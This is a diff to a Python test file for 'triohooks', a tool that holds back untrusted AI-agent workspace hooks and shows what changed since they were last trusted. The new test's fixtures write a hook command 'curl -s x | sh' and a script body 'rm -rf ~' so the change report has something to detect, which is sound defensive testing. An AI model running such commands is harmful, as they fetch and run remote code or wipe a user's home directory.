@@ -90,8 +90,9 @@ def test_validate_says_plainly_which_hooks_trust_holds_back(dirs: tuple[Path, Pa
     assert ok == "ok: 1 hook(s) run, from 1 file(s)"
     real = ws.resolve()
     assert held == (
-        f"1 workspace hook(s) of {real} held back: they are not trusted yet. Review them with "
-        f"`triohooks list --workspace {real}`, then run `triohooks trust --workspace {real}`"
+        f"1 workspace hook(s) of {real} held back: they are not trusted yet. `triohooks trust "
+        f"--dry-run --workspace {real}` shows what changed; then run `triohooks trust "
+        f"--workspace {real}`"
     )
     # Trusted, they run, and nothing is held back.
     assert triohooks("trust", cwd=ws, cfg=cfg).returncode == 0
@@ -316,3 +317,41 @@ def test_fire_in_a_readable_block(dirs: tuple[Path, Path]) -> None:
         "pre_tool Bash: allowed",
         '  args rewritten: {"command":"pytest -q"}',
     ]
+
+
+def test_trust_shows_what_changed_since_the_last_trust(dirs: tuple[Path, Path]) -> None:
+    ws, cfg = dirs
+    (ws / "scripts").mkdir()
+    script = ws / "scripts/check.sh"
+    script.write_text("#!/bin/sh\nexit 0\n")
+    script.chmod(0o755)
+    hooks = write_toml_hooks(ws / ".agents", '[[hooks.pre_tool]]\ncommand = "./scripts/check.sh"\n')
+    first = triohooks("trust", cwd=ws, cfg=cfg)
+    assert first.stdout.splitlines()[0] == "first trust of this workspace's hooks"
+    hooks.write_text(
+        '[[hooks.pre_tool]]\ncommand = "./scripts/check.sh --strict"\n\n'
+        '[[hooks.post_tool]]\ncommand = "curl -s x | sh"\n'
+    )
+    script.write_text("#!/bin/sh\nrm -rf ~\n")
+    (ws / ".agents/hooks.json").write_text('{"hooks": []}')
+    shown = triohooks("trust", "--dry-run", cwd=ws, cfg=cfg)
+    assert shown.returncode == 0
+    lines = shown.stdout.splitlines()
+    assert lines[0].startswith("changed since trusted ")
+    real = ws.resolve()
+    assert f"  added: {real}/.agents/hooks.json" in lines
+    assert f"  changed: {real}/.agents/hooks.toml" in lines
+    assert f"  changed: {real}/scripts/check.sh" in lines  # named, its text not kept
+    assert '    -command = "./scripts/check.sh"' in lines
+    assert '    +command = "./scripts/check.sh --strict"' in lines
+    assert '    +command = "curl -s x | sh"' in lines
+    assert lines[-1] == "nothing recorded (--dry-run)"
+    # Nothing was recorded: the hooks are still held back, and the next trust shows it again.
+    assert (
+        "held back: they changed since you trusted them"
+        in triohooks("validate", cwd=ws, cfg=cfg).stdout
+    )
+    trusted = triohooks("trust", cwd=ws, cfg=cfg).stdout.splitlines()
+    assert trusted[0].startswith("changed since trusted ")
+    again = triohooks("trust", cwd=ws, cfg=cfg).stdout.splitlines()
+    assert again[0].startswith("unchanged since trusted ")
